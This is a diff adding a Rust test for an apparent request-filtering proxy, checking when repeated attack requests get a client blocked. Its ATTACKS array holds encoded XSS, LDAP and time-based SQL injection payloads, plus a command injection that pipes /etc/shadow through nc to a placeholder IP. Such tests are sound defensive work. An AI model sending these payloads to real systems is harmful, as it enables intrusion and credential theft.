@@ -294,3 +294,29 @@ fn resident(pid: u32) -> u64 {
     let kib: u64 = line.split_whitespace().next().and_then(|it| it.parse().ok()).expect("KiB");
     kib * 1024
 }
+
+/// Searches, each of which another rule takes for an attack.
+const ATTACKS: [&str; 5] = [
+    ATTACK,
+    "/api/v1/products?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
+    "/api/v1/products?q=%3B%20cat%20%2Fetc%2Fshadow%20%7C%20nc%20203.0.113.5%2099",
+    "/api/v1/products?q=*)(uid=*))(%7C(uid=*",
+    "/api/v1/products?q=1%3B%20WAITFOR%20DELAY%20%270%3A0%3A9%27--",
+];
+
+#[test]
+fn ordinary_requests_between_attacks_keep_a_source_from_being_blocked() {
+    for (between, status) in [(0, 403), (40, 200)] {
+        let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+        let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
+        for attack in ATTACKS {
+            refused(&palisade, attack);
+            for page in 0..between {
+                let target = format!("/api/v1/products?page={page}");
+                assert_eq!(call(palisade.address, "GET", &target, "").status, 200, "{target}");
+            }
+        }
+        let last = call(palisade.address, "GET", "/api/v1/products?page=1", "");
+        assert_eq!(last.status, status, "with {between} in between: {}", last.body);
+    }
+}
